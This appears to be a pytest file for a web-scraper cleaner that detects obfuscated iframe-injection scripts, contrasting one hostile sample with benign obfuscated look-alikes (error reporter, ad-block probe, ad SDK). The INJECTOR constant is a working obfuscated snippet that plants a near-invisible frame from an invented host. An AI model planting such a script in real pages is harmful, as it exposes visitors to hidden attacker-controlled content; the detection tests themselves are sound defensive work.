"""An inline script that keeps "iframe" and the address of a host nothing else on the page names in one
string table injects a frame (v13 §3), even when it acts alike for every visitor."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.test_structural import BODY, URL, page

# An array-rotation frame injector (v13 §3), with an invented address on an invented host.
INJECTOR = ('<script>var _0xa1 = ["iframe", "setAttribute", "https://www.cdn-frames.example-x.top/f.html", "body",'
            ' "appendChild", "createElement"]; !function(t, x) { !function(x) { for (; --x; ) t.push(t.shift()) }(++x)'
            ' }(_0xa1, 342); var _0xf = function(t) { return _0xa1[t -= 0] }; a = document[_0xf("0x5")](_0xf("0x0")),'
            ' a[_0xf("0x1")]("src", _0xf("0x2")), a.style.width = "0px", a.style.height = "1px",'
            ' document[_0xf("0x3")][_0xf("0x4")](a);</script>')


def test_a_script_keeping_iframe_and_an_unnamed_hosts_address_in_one_table_flags_the_page():
    a = clean_page(page(body=BODY + INJECTOR), url=URL)
    assert a.hijacked, a.findings
    assert any("example-x.top" in f.evidence for f in a.findings)


def test_the_same_table_for_a_host_the_page_links_is_the_sites_own_frame():
    body = BODY + '<p><a href="https://www.example-x.top/">合作平台</a></p>' + INJECTOR
    a = clean_page(page(body=body), url=URL)
    assert not any("example-x.top" in f.evidence for f in a.findings), a.findings


# An ad-recovery script's error report (4 clean dev-v10 forum pages): the same rotated table with
# "iframe", but its frame's address waits for values ("?eventId=", "&error=") the script fills in
# after posting the error to the service's report endpoint. Invented host.
REPORTER = ('<script>var _0xb2 = ["iframe", "createElement", "src", "https://report.bugnotice-x.com/modal?eventId=",'
            ' "&error=", "https://bugnotice-x.com/report", "POST", "body", "appendChild", "btoa", "href"];'
            ' !function(t, x) { !function(x) { for (; --x; ) t.push(t.shift()) }(++x) }(_0xb2, 117);'
            ' var _0xg = function(t) { return _0xb2[t -= 0] };'
            ' window.addEventListener("error", function(e) { fetch(_0xg("0x5"), {method: _0xg("0x6")}).then(function(r) {'
            ' var f = document[_0xg("0x1")](_0xg("0x0")); f[_0xg("0x2")] = _0xg("0x3") + r + _0xg("0x4") +'
            ' window[_0xg("0x9")](e.message); document[_0xg("0x7")][_0xg("0x8")](f) }) }, true);</script>')


def test_a_table_whose_frame_address_waits_for_the_error_it_reports_is_no_injector():
    a = clean_page(page(body=BODY + REPORTER), url=URL)
    assert not a.hijacked, a.findings
    assert not any("bugnotice-x.com" in f.evidence for f in a.findings), a.findings


def test_a_reporting_table_beside_an_injectors_does_not_hide_the_injector():
    a = clean_page(page(body=BODY + REPORTER + INJECTOR), url=URL)
    assert a.hijacked, a.findings
    assert any("example-x.top" in f.evidence for f in a.findings)


# An ad-block check (a clean dev-v9-irdata page): a table with "iframe" that also keeps a picture's
# address, loaded to see whether a blocker stops it. A picture is neither a frame's page nor a script.
PROBE = ('<script>var _0xc3 = ["iframe", "createElement", "https://forum.filterlists-x.com/images/site_logo.gif",'
         ' "onerror", "body", "appendChild", "img"]; var _0xh = function(t) { return _0xc3[t -= 0] };'
         ' var i = document[_0xh("0x1")](_0xh("0x6")); i.src = _0xh("0x2");'
         ' i[_0xh("0x3")] = function() { var f = document[_0xh("0x1")](_0xh("0x0"));'
         ' document[_0xh("0x4")][_0xh("0x5")](f) };</script>')


def test_a_probe_pictures_address_in_a_frame_table_is_no_injected_frame():
    a = clean_page(page(body=BODY + PROBE), url=URL)
    assert not any("filterlists-x.com" in f.evidence for f in a.findings), a.findings
    assert not a.hijacked, a.findings


# A video-ad SDK's obfuscated bundle (a clean dev-v35-gtrends page, written afresh): its string table
# keeps "script" and the insert call with the ad server the page itself loads and the ad network's video
# CDN, which nothing else on the page names. The table is the service's, not a planted one.
AD_SDK = ('<script>var _0xd4 = ["script", "createElement", "https://adserver.adnet-x.com/gpt/impl_108.js",'
          ' "//v0.adnetcdn-x.net/instream/video/", "head", "appendChild"]; var _0xi = function(t) { return _0xd4[t -= 0] };'
          ' var s = document[_0xi("0x1")](_0xi("0x0")); s.src = _0xi("0x2"); document[_0xi("0x4")][_0xi("0x5")](s);</script>')


def test_an_ad_sdks_table_beside_the_ad_server_the_page_loads_is_no_injector():
    body = BODY + '<script src="https://adserver.adnet-x.com/tag/js/gpt.js"></script>' + AD_SDK
    a = clean_page(page(body=body), url=URL)
    assert not any("adnetcdn-x.net" in f.evidence for f in a.findings), a.findings
    assert not a.hijacked, a.findings
